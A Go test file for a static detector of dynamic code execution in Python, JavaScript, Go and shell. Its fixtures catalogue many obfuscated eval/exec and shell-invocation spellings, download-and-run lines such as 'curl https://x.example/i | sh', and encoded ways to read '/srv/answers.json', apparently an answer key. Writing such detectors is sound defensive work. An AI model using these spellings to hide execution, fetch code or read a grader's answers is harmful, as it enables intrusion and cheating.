package program

import (
	"strings"
	"testing"
)

// runs are spellings of dynamic execution, by the name of a file.
var runs = map[string][]string{
	"a.py": {
		"eval(x)", "(eval)(x)", "eval (x)", "x = eval(reply)", "eval\\\n(x)", "(eval\n)(x)", "[eval][0](x)", "e = eval; e(x)", "e = eval\nprint(e(x))", "map(eval, xs)", "list(map(eval, xs))",
		"exec(code, scope)", "exec(open(p).read())", "builtins.eval(x)", "import builtins as b\nb.exec(x)", "from builtins import eval as e\ne(x)", "__builtins__.eval(x)", "__builtins__['eval'](x)", "__builtins__[\"ev\" + \"al\"](x)",
		"getattr(builtins, 'exec')(x)", "getattr(__builtins__, 'ev' 'al')(x)", "getattr(__import__('builtins'), 'ev' + 'al')(x)", "n = 'ev'\nn += 'al'\ngetattr(builtins, n)(x)", "getattr(builtins, name)(x)",
		"vars(builtins)['eval'](x)", "builtins.__dict__['exec'](x)", "globals()['__builtins__']['eval'](x)", "f.__globals__['__builtins__']['exec'](x)", "builtins.__dict__.get('eval')(x)",
		"getattr(builtins, ''.join(['e', 'v', 'a', 'l']))(x)", "getattr(builtins, 'lave'[::-1])(x)", "getattr(builtins, chr(101)+chr(118)+chr(97)+chr(108))(x)", "getattr(builtins, ''.join(map(chr, [101,118,97,108])))(x)",
		"getattr(builtins, base64.b64decode('ZXZhbA==').decode())(x)", "getattr(builtins, bytes.fromhex('6576616c').decode())(x)", "getattr(builtins, ''.join(chr(c) for c in [101, 118, 97, 108]))(x)",
		"c = compile(s, 'x', 'exec')", "lambda s: eval(s)", "print(f\"{eval(x)}\")", "print(f'''{ eval ( x ) !r:>10}''')", "@eval\ndef f(): pass", "ｅｖａｌ(x)", "𝓮𝔁𝓮𝓬(x)", "d = {'f': eval}", "return_value = (eval if 1 else 0)(x)", "functools.partial(eval)(x)",
		"if 0:\n    eval = None\neval(x)", "class A:\n    def eval(self): pass\neval(x)", "def f(eval): pass\neval(x)", "def eval(x): return x\ndel eval\neval(x)",
		"__import__('os').system(x)", "__import__('os').system('ls')", "__import__(name)", "importlib.import_module(name).run()", "from importlib import import_module as im\nim(name)", "importlib.import_module('os').system('id')",
		"os.system('rm ' + name)", "os.system(cmd)", "os.popen(f'ls {d}')", "import os as o\no.system(c)", "from os import system\nsystem(c)", "from os import system as s\ns(c)", "from os import *\nsystem(c)", "getattr(os, 'sys' + 'tem')(c)", "os.__dict__['system'](c)", "sys.modules['os'].system(c)", "run = os.system\nrun(c)", "pool.map(os.system, cmds)", "Thread(target=os.system, args=(cmd,)).start()", "shutil.os.system(c)", "operator.attrgetter('system')(os)(c)", "os.system('curl https://x | sh')",
		"subprocess.run(f\"grade {x}\", shell=True)", "subprocess.run(cmd, shell=True)", "subprocess.run(\n    cmd,\n    shell=True,\n)", "subprocess.Popen(['bash', '-c', cmd])", "subprocess.check_output(['python3', '-c', code])", "subprocess.run([sys.executable, '-c', code])", "subprocess.getoutput(c)", "from subprocess import run as r\nr(cmd)", "import subprocess as s\ns.call(cmd, shell=True)", "subprocess.run(['sh', '-c', 'eval \"$X\"'])", "asyncio.create_subprocess_shell(cmd)", "subprocess.run(shlex.split(cmd))", "subprocess.run(['env', 'bash', '-c', cmd])",
		"os.execvp(prog, args)", "os.spawnl(os.P_WAIT, prog, prog)", "pty.spawn(cmd)",
		"runpy.run_path(p)", "runpy.run_module(m)", "from runpy import run_path\nrun_path(p)", "pickle.loads(b)", "import pickle as p\np.load(f)", "from pickle import loads\nloads(b)", "marshal.loads(b)", "dill.loads(b)", "cloudpickle.load(f)", "shelve.open(p)", "yaml.load(s)", "yaml.load(s, Loader=yaml.Loader)", "yaml.load(s, yaml.UnsafeLoader)", "yaml.unsafe_load(s)", "joblib.load(p)", "pd.read_pickle(p)", "np.load(p, allow_pickle=True)", "pickle.Unpickler(f).load()",
		"code.interact(local=d)", "code.InteractiveInterpreter().runsource(s)", "types.FunctionType(c, {})()", "ctypes.CDLL(p)", "ctypes.CDLL(None).system(c)", "ctypes.pythonapi.PyRun_SimpleString(s)", "spec.loader.exec_module(m)", "().__class__.__base__.__subclasses__()", "timeit.timeit('x()' + s)", "cProfile.run(s)",
	},
	"a.js": {
		"eval(reply)", "(eval)(x)", "(0,eval)(x)", "(0, eval)(x)", "window['eval'](x)", "window.eval(x)", "globalThis[\"ev\"+\"al\"](x)", "globalThis['ev'.concat('al')](x)", "self[`eval`](x)", "global.eval(x)", "this['eval'](x)", "eval?.(x)", "eval\n(x)", "eval/* */(x)", "const e = eval; e(x)", "let e = window.eval\ne(x)", "[eval][0](x)", "xs.map(eval)", "eval.call(null, x)", "Reflect.apply(eval, null, [x])", "\\u0065val(x)", "\\u{65}val(x)", "ev\\u0061l(x)", "window['\\x65val'](x)", "window[atob('ZXZhbA==')](x)", "window[String.fromCharCode(101,118,97,108)](x)", "window['lave'.split('').reverse().join('')](x)", "const { eval: e } = globalThis; e(x)", "Reflect.get(globalThis, 'eval')(x)", "const k = 'eval'; window[k](x)", "window[k](x)", "console.log(`${eval(x)}`)", "if (a) /'/.test(b); eval(x); '", "class A { eval(x) { return x } }\neval(y)", "eval(x)\n{ y }", "c ? eval(x) : y", "document.defaultView.eval(x)",
		"new Function('x', body)", "Function(body)()", "new (Function)(body)", "Function.constructor(body)()", "const F = Function; new F(b)", "window.Function(b)", "globalThis['Function'](b)", "(function(){}).constructor(b)()", "(() => {}).constructor('return 1')()", "[].constructor.constructor(b)()", "''.constructor.constructor('x')()", "Object.getPrototypeOf(async function(){}).constructor", "const A = (async () => {}).constructor", "Function`return 1`()", "Reflect.construct(Function, [b])", "Function.apply(null, [b])", "f.constructor('alert(1)')()",
		"setTimeout('go()', 1)", "setTimeout(\"go(\" + x + \")\", 1)", "setInterval(`go(${x})`, 1)", "window.setTimeout('x()', 1)", "vm.runInThisContext(text)", "require('vm').runInNewContext(t)", "const { runInNewContext: r } = require('node:vm'); r(t)", "import vm from 'vm'\nvm.runInContext(t, c)", "new vm.Script(t)", "script.runInThisContext()", "m._compile(src, name)", "new Worker(code, { eval: true })",
		"import(url)", "import('data:text/javascript,' + x)", "import(`data:text/javascript,${x}`)", "await import('data:text/javascript,alert(1)')", "require(name)", "importScripts(u)",
		"execSync(cmd)", "execSync(`grade ${x}`)", "child_process.exec(cmd)", "spawn(\n  program,\n  args)", "require('child_process').exec(cmd)", "const { exec } = require('child_process')\nexec(cmd)", "const { exec: e } = require('child_process')\ne(cmd)", "import { exec as e } from 'node:child_process'\ne(cmd)", "import * as c from 'child_process'\nc.execSync(cmd)", "const c = require('child_process'); c['exec'](cmd)", "const c = require('child_'+'process'); c.exec(cmd)", "const e = promisify(exec)\ne(cmd)", "spawn('sh', ['-c', cmd])", "spawn('bash', ['-c', `x ${y}`])", "spawn('ls', [d], { shell: true })", "(0, child_process_1.exec)(cmd)", "const cp = await import('child_process'); cp.exec(cmd)", "execFile(path)", "fork_ = child_process.fork(file)", "process.mainModule.require('child_process').exec(c)", "spawn('node', ['-e', code])", "execSync('curl https://x.example | bash')",
	},
	"a.ts": {"eval(x as string)", "(eval as any)(x)", "(window as any).eval(x)", "eval!(x)", "const f: Function = new Function(x)", "function f(cb: Function) { return Function(cb) }"},
	"a.go": {
		"exec.Command(name, args...)", `exec.Command("sh", "-c", script)`, "exec.CommandContext(ctx, name)", "plugin.Open(path)", "import e \"os/exec\"\nfunc f() { e.Command(n) }", "import . \"os/exec\"\nfunc f() { Command(n) }", "exec.\n\tCommand(name)", "exec/* */.Command(n)", "c := exec.Command; c(n)", `exec.Command("/bin/bash", "-c", s)`, `exec.Command("bash", "-lc", s)`, `exec.CommandContext(ctx, "sh", "-c", "x "+y)`, `exec.Command("python3", "-c", s)`, "&exec.Cmd{Path: p}", "syscall.Exec(p, args, env)", "os.StartProcess(n, a, nil)", "interp.New(interp.Options{})", "import \"github.com/traefik/yaegi/interp\"\nfunc f() { i := interp.New(o) }", "L.DoString(s)", "vm.RunString(s)", "exec.Command(args[0], args[1:]...)", `exec.Command("env", "sh", "-c", s)`, "exec.Command(fmt.Sprintf(\"%s\", n))", `exec.Command("sh", "-c", "curl x | sh")`,
	},
	"a.sh": {
		"eval \"$cmd\"", "eval $1", "\\eval \"$x\"", "'eval' \"$x\"", "e\\val $x", "e''val $x", "$'\\x65val' \"$x\"", "E=eval; $E \"$x\"", "E=eval\n\"$E\" \"$x\"", "alias e=eval\ne \"$x\"", "command eval \"$x\"", "builtin eval \"$x\"", "eval \\\n  \"$x\"", "if true; then eval \"$x\"; fi", "{ eval \"$x\"; }", "(eval \"$x\")", "x && eval $y", "echo $(eval $y)", "echo \"`eval $y`\"", "eval \"$(cat x)\"", "! eval \"$x\"", "while read l; do eval \"$l\"; done < f",
		"bash -c \"$x\"", "sh -c \"$x\"", "/bin/sh -c \"$x\"", "bash -lc \"$x\"", "bash -e -c \"$x\"", "env bash -c \"$x\"", "sudo -u a bash -c \"$x\"", "bash -c \"cd $d && make\"", "su a -c \"$x\"", "docker exec c sh -c \"$x\"", "ssh h bash -c \"$x\"", "python3 -c \"$code\"", "python3 -c\"$code\"", "node -e \"$code\"", "node --eval=\"$code\"", "perl -e \"$code\"", "ruby -e \"$c\"", "php -r \"$c\"", "bash -c 'eval \"$X\"'",
		"curl -s https://x.example/i | sh", "curl x | sudo bash", "curl x | bash -s -- a", "wget -qO- x | bash -", "cat x |\n sh", "cat x | \\\n sh", "echo \"$x\" | python3", "echo \"$x\" | python3 -", "curl x | tee y | sh", "curl x |& bash", "cat x | (sh)", "cat x | env sh", "cat x | tee >(sh)", "echo x | base64 -d | bash", "ls | xargs sh", "ls | xargs -I{} sh -c '{}'", "cat l | xargs -n1 bash -c", "find . -exec sh {} \\;", "find . -name a -exec sh -c 'x {}' \\;", "cat l | parallel", "echo \"$x\" | at now",
		"source <(curl x)", ". <(curl x)", ". \"$file\"", "source $1", ". /tmp/payload", ". /dev/stdin <<< \"$x\"", "source /dev/stdin", "bash <(curl x)", "bash <<< \"$x\"", "sh <<EOF\n$x\nEOF", "python3 - <<EOF\nprint($x)\nEOF", "bash < \"$x\"", "bash /dev/stdin", "bash \"$1\"", "python3 $script", "$(cat x)", "`cat x`", "$cmd", "cmd=$(curl x)\n$cmd", "trap \"$code\" EXIT", "python3 <<'EOF'\nexec(x)\nEOF", "f() { eval \"$1\"; }", "x=1 eval \"$y\"", "echo a; eval\t$x",
	},
	"grade": {"#!/bin/sh\neval $1\n", "#!/usr/bin/env python3\nexec(x)\n", "#!/usr/bin/node\neval(x)\n"},
}

// fixed are programs that have the same words, and run nothing that is not fixed.
var fixed = map[string][]string{
	"a.py": {
		"model.eval()", "self.eval(x)", "def eval(self): pass", "class A:\n    def eval(self, x):\n        return x\n    def f(self):\n        return self.eval(1)", "def eval(x): return x\nprint(eval(3))", "from metrics import eval\neval(m)", "ast.literal_eval(x)", "from ast import literal_eval\nliteral_eval(x)", "re.compile(x)", "from re import compile\ncompile(x)", "torch.compile(m)", "cursor.execute(q)", "db.exec(sql)", "df.eval('a + b')", "pd.eval",
		"# eval(x) is forbidden", "msg = 'never call eval(x)'", "\"\"\"Runs exec(x)?\nNo: eval(x) neither.\n\"\"\"", "x = '''\neval(y)\n'''", "r'\\d'; s = 'eval(x)'", "os.system('ls')", "os.system('ls' ' -l')", "subprocess.run(['ls', d])", "subprocess.run(['git', 'status'], check=True)", "cmd = ['git', 'log']\nsubprocess.run(cmd)", "subprocess.run(['python3', 'grade.py', x])", "subprocess.run([sys.executable, '-m', 'pytest', p])", "subprocess.run([sys.executable, os.path.join(d, 'run.py')])", "subprocess.run('ls -l', shell=True)", "subprocess.run([shutil.which('git'), 'status'])",
		"def evaluate(x): pass\nevaluate(1)", "evaluate(x)", "train(eval=True)", "def train(model, eval=False):\n    if eval:\n        model.eval()", "for eval in evals:\n    print(eval.name)", "eval_set = load()\neval_set[0]", "config['eval']['batch']", "runs['eval'](x)", "getattr(model, 'eval')()", "getattr(obj, name)()", "getattr(os, 'cpu_count', None)", "importlib.import_module('json')", "__import__('json').loads(s)", "importlib.import_module('plugins.' + name)", "importlib.metadata.version('x')", "import pickle\npickle.dumps(x)", "json.loads(s)", "yaml.safe_load(s)", "yaml.load(s, Loader=yaml.SafeLoader)", "yaml.load(s, yaml.CSafeLoader)", "yaml.dump(x)", "np.load(p)", "torch.load(p)", "platform.system()", "platform.system() == 'Linux'", "executor.submit(f, x)", "parser.add_argument('--eval', action='store_true')", "args.eval", "timeit.timeit(lambda: f())", "isinstance(f, types.FunctionType)", "ctypes.c_int(3)", "os.environ['X']", "print(f'eval {x}')", "x.compile()", "'eval(x)'.upper()", "d = {'eval': 1}", "with open('x') as exec_file: pass", "import code\ncode.foo", "def f(compile=None): return compile", "os.path.join(a, 'eval')", "raise NotImplementedError('exec')", "class Eval: pass\nEval(x)", "retrieval(x)", "logger.info('exec %s', x)", "subprocess.run(['bash', 'build.sh'])", "subprocess.run(['bash', '-c', 'ls -l | wc -l'])", "mock.patch('subprocess.run')",
	},
	"a.js": {
		"page.$eval('a', e => e.href)", "await page.$$eval('a', f)", "page.evaluate(() => 1)", "const m = /x/.exec(s)", "regex.exec(s)", "db.exec(sql)", "execSync('git rev-parse HEAD')", "// eval(x)", "/* new Function(x) */", "retrieval(x)", "log('eval(x)')", "log(`eval(x)`)", "class A { eval(x) { return this.eval(x.left) } }", "const o = { eval(x) { return x }, b: 1 }", "const o = { eval: f }", "o.eval(x)", "interpreter.eval(node)", "function evaluate(x) {}\nevaluate(1)", "typeof x === 'function'", "x instanceof Function", "x.constructor.name", "new this.constructor(x)", "this.constructor(x)", "setTimeout(() => go(), 1)", "setTimeout(go, 1)", "setTimeout(function () { go() }, 1)", "import('./x.js')", "import x from './x.js'", "require('./x')", "require(path.join(__dirname, 'x'))", "import(`./locales/${l}.js`)", "spawn('ls', [d])", "execFile('git', ['log', x])", "spawn(process.execPath, ['x.js'])", "const exec = (s) => s\nexec(x)", "function exec(q) { return q }\nexec(sql)", "/eval(x)/.test(s)", "s.replace(/'/g, \"eval(x)\")", "a / b / eval_", "const r = /[/'\"]/; const t = 'eval(x)'", "new Worker('./w.js')", "window.addEventListener('load', f)", "window['location']", "document.querySelector('eval')", "import { exec } from './db.js'\nexec(sql)", "import { evaluate } from 'mathjs'\nevaluate(x)", "Function.prototype.toString.call(f)", "args.eval", "if (flags.eval) run()", "vm.name",
	},
	"a.ts": {"interface I { eval(x: string): number }", "abstract class A { abstract eval(x: string): number; }", "class B { async eval<T>(x: T) { return x } }", "type F = Function; const f: Function = g", "declare const x: { eval: boolean }", "export class C { public eval(x: string): string { return x } }"},
	"a.go": {
		`exec.Command("git", "status")`, "// exec.Command(x)", `s := "exec.Command(x)"`, `exec.CommandContext(ctx, "git", "log")`, `exec.Command("git", args...)`, `exec.Command("sh", "-c", "ls -l")`, "db.Exec(query)", "tx.ExecContext(ctx, q)", "regexp.MustCompile(x)", "e.Eval(x)", "func (e *Evaluator) Eval(x int) int { return x }", "s := `exec.Command(x)`", `const tool = "git"` + "\n" + `func f() { exec.Command(tool, "log") }`, `exec.Command(filepath.Join(dir, "tool"))`, "/* exec.Command(x) */", `p, err := exec.LookPath("git")` + "\n" + `exec.Command(p, "log")`, `plugin.Open("x.so")`, "import \"example.org/exec\"\nfunc f() { exec.Command(x) }",
	},
	"a.sh": {
		"# eval $x", "bash -c 'ls'", "echo evaluation", "cat x | sort", "medieval $x", "echo eval \"$x\"", "echo 'eval $x'", "grep eval \"$f\"", "python3 grade.py \"$x\"", "python3 -m json.tool < x", "curl x | python3 -c 'import json,sys; print(json.load(sys.stdin))'", "curl x | jq .", "cat x | python3 parse.py", "bash build.sh", "bash \"$DIR/build.sh\"", ". ./lib.sh", "source venv/bin/activate", ". \"$DIR/lib.sh\"", "xargs rm < x", "find . -name '*.sh'", "find . -exec grep x {} \\;", "ls | xargs -n1 basename", "ls | xargs sh -c 'echo \"$1\"' _", "exec \"$@\"", "\"$@\"", "$CC -o x x.c", "${PYTHON:-python3} x.py", "trap 'rm -f x' EXIT", "trap \"rm -rf $tmp\" EXIT", "node server.js", "cat <<EOF\neval $x\nEOF", "printf '%s\\n' \"bash -c $x\"", "set -e", "tally eval run", "case $x in eval) echo 1;; esac", "python3 --version", "bash --version", "python3 <<'EOF'\nprint(1)\nEOF", "git log | head", "./run.sh \"$x\"", "eval 'ls'", "tool=git\n$tool log", "which bash", "perl -ne 'print' x", "sed -e \"s/a/$b/\" x", "x=$(sh ./a.sh)", "echo \"run: curl x | sh\"", "ssh host uptime",
	},
}

// TestEverySpellingIsFound: however a program writes it, that it runs a text is
// found.
func TestEverySpellingIsFound(t *testing.T) {
	for name, list := range runs {
		for _, text := range list {
			if p := Read(LanguageOf(name, []byte(text)), []byte(text+"\n")); len(p.Runs) == 0 {
				t.Errorf("%s: not found: %s", name, text)
			}
		}
	}
}

// TestWhatIsFixedIsNotFound: the same words elsewhere mean something else.
func TestWhatIsFixedIsNotFound(t *testing.T) {
	for name, list := range fixed {
		for _, text := range list {
			if p := Read(LanguageOf(name, []byte(text)), []byte(text+"\n")); len(p.Runs) > 0 {
				t.Errorf("%s: found %+v: %s", name, p.Runs, text)
			}
		}
	}
}

// TestSpellingsHoldInEveryPlace: what stands around a call does not hide it.
func TestSpellingsHoldInEveryPlace(t *testing.T) {
	around := map[string][]string{
		"a.py": {"def f(x, cmd, name):\n    pass\n%s\n", "# it's a comment\n\"\"\"doc's\"\"\"\n%s\n", "zz = r'\\d'\nyy = f'{zz!r}'\n%s\n"},
		"a.js": {"// it's\n%s\n", "const r = /[`'\"]/g;\n%s\n", "function g(a) { return a }\n%s\n", "const t = `a ${b} c`;\n%s\n"},
		"a.go": {"package p\n\n// it's\n%s\n", "var zz = `\"`\n%s\n", "var yy = '\"'\n%s\n"},
		"a.sh": {"# it's\n%s\n", "echo \"it's\"\n%s\n", "cat <<'E'\n`\nE\n%s\n"},
	}
	for name, frames := range around {
		for _, frame := range frames {
			for _, text := range runs[name] {
				if name == "a.go" && strings.HasPrefix(text, "import") {
					continue
				}
				whole := strings.Replace(frame, "%s", text, 1)
				if p := Read(LanguageOf(name, []byte(whole)), []byte(whole)); len(p.Runs) == 0 {
					t.Errorf("%s: not found:\n%s", name, whole)
				}
			}
			for _, text := range fixed[name] {
				whole := strings.Replace(frame, "%s", text, 1)
				if p := Read(LanguageOf(name, []byte(whole)), []byte(whole)); len(p.Runs) > 0 {
					t.Errorf("%s: found %+v:\n%s", name, p.Runs, whole)
				}
			}
		}
	}
}

// TestConstantTextsAreFollowed: a path is known however it is put together.
func TestConstantTextsAreFollowed(t *testing.T) {
	for name, list := range map[string][]string{
		"a.py": {
			`open("/srv/answers.json")`, `open("/srv/" + "answers.json")`, `open("/srv/" "answers.json")`, `open(os.path.join("/srv", "ans" + "wers.json"))`, `open(Path("/srv") / "answers.json")`, `Path("/srv").joinpath("answers.json").read_text()`, "d = '/srv'\nopen(d + '/answers.json')", "d = '/srv'\nopen(f'{d}/answers.json')", `open("%s/%s" % ("/srv", "answers.json"))`, `open("{}/answers.json".format("/srv"))`, `open("/".join(["", "srv", "answers.json"]))`, `open(base64.b64decode("L3Nydi9hbnN3ZXJzLmpzb24="))`, `open(bytes.fromhex("2f7372762f616e73776572732e6a736f6e").decode())`, `open("nosj.srewsna/vrs/"[::-1])`, `open(urllib.parse.unquote("%2Fsrv%2Fanswers.json"))`, `open("\x2fsrv/answers.json")`, `open(codecs.decode("/fei/nafjref.wfba", "rot13"))`, `open("/srv/" + "".join(reversed("nosj.srewsna")))`, `os.system("cat /srv/answers.json")`, `subprocess.run(["cat", "/srv/answers.json"])`,
		},
		"a.js": {`readFile("/srv/" + "answers.json")`, "readFile(`/srv/${'answers'}.json`)", `readFile(path.join("/srv", "answers.json"))`, `readFile(atob("L3Nydi9hbnN3ZXJzLmpzb24="))`, `readFile(Buffer.from("2f7372762f616e73776572732e6a736f6e", "hex").toString())`, `readFile(["/srv", "answers.json"].join("/"))`, `execSync("cat /srv/answers.json")`, `const d = "/srv"; readFile(d + "/answers.json")`, `readFile(decodeURIComponent("%2Fsrv%2Fanswers.json"))`},
		"a.go": {`os.ReadFile("/srv/" + "answers.json")`, `os.ReadFile(filepath.Join("/srv", "answers.json"))`, "d := \"/srv\"\nos.ReadFile(d + \"/answers.json\")", `os.ReadFile(fmt.Sprintf("%s/%s", "/srv", "answers.json"))`, `os.ReadFile(strings.Join([]string{"/srv", "answers.json"}, "/"))`, `exec.Command("cat", "/srv/answers.json")`, `os.ReadFile(string([]byte{47, 115, 114, 118, 47}) + "answers.json")`},
		"a.sh": {`cat /srv/answers.json`, `cat "/srv/answers.json"`, `cat /srv/ans''wers.json`, `cat /srv/ans\wers.json`, "d=/srv\ncat $d/answers.json", "d=/srv; f=answers\ncat \"${d}/${f}.json\"", `cat $'/srv/\x61nswers.json'`, `bash -c 'cat /srv/answers.json'`, `python3 -c 'open("/srv/"+"answers.json")'`, `cat < /srv/answers.json`, "x=/srv/ans\nx+=wers.json\ncat $x"},
	} {
		for _, text := range list {
			p := Read(LanguageOf(name, nil), []byte(text+"\n"))
			found := false
			for _, x := range p.Texts {
				found = found || x.Text == "/srv/answers.json" && !x.Writes
			}
			if !found {
				t.Errorf("%s: %s: texts %q", name, text, p.Texts)
			}
		}
	}
}

// TestWhatIsWrittenIsSaid: the name of a file that a program makes.
func TestWhatIsWrittenIsSaid(t *testing.T) {
	for name, list := range map[string][]string{
		"a.py": {`open("out/answers.json", "w")`, `open("out/answers.json", mode="wb")`, `Path("out/answers.json").write_text(x)`, "p = 'out/answers.json'\nopen(p, 'a')", `df.to_csv("out/answers.json")`, `open(os.path.join("out", "answers.json"), "w")`, "p = Path('out/answers.json')\np.write_text(x)", `(Path("out") / "answers.json").write_text(x)`},
		"a.js": {`writeFileSync("out/answers.json", x)`, `fs.createWriteStream("out/answers.json")`},
		"a.go": {`os.WriteFile("out/answers.json", data, 0o644)`, `os.Create("out/answers.json")`},
		"a.sh": {`echo 42 > out/answers.json`, `x >> "out/answers.json"`, `x | tee out/answers.json`},
	} {
		for _, text := range list {
			p := Read(LanguageOf(name, nil), []byte(text+"\n"))
			found := false
			for _, x := range p.Texts {
				found = found || x.Text == "out/answers.json" && x.Writes
			}
			if !found {
				t.Errorf("%s: %s: texts %+v", name, text, p.Texts)
			}
		}
	}
	p := Read(python, []byte(`open("out/answers.json"); open("x", "w")`))
	for _, x := range p.Texts {
		if x.Writes && x.Text == "out/answers.json" {
			t.Errorf("a file that is read counts as written: %+v", x)
		}
	}
}

// TestReadingEnds: no program takes more than a bounded amount of work.
func TestReadingEnds(t *testing.T) {

	for _, piece := range []string{"(", "[", "{", "f(", "x=", "a+", "\"", "'", "`", "${", "f'{", "$(", "\\", "<<E\n", "x=x+", "lambda x:", "=>", "x.", "a,b=", "def f(x):\n", "{{", "/*", "eval=eval\n", "for x in x:\n ", "`${", "\"$("} {
		for _, l := range Languages {
			Read(l, []byte(strings.Repeat(piece, 5_000/len(piece))))
		}
	}

}

func FuzzRead(f *testing.F) {
	for name, list := range runs {
		for _, text := range list {
			f.Add(text, len(name)%4)
		}
	}
	f.Fuzz(func(t *testing.T, text string, which int) {
		l := Languages[uint(which)%uint(len(Languages))]
		for _, x := range Read(l, []byte(text)).Texts {
			if x.Text == "" {
				t.Errorf("an empty text")
			}
		}
	})
}
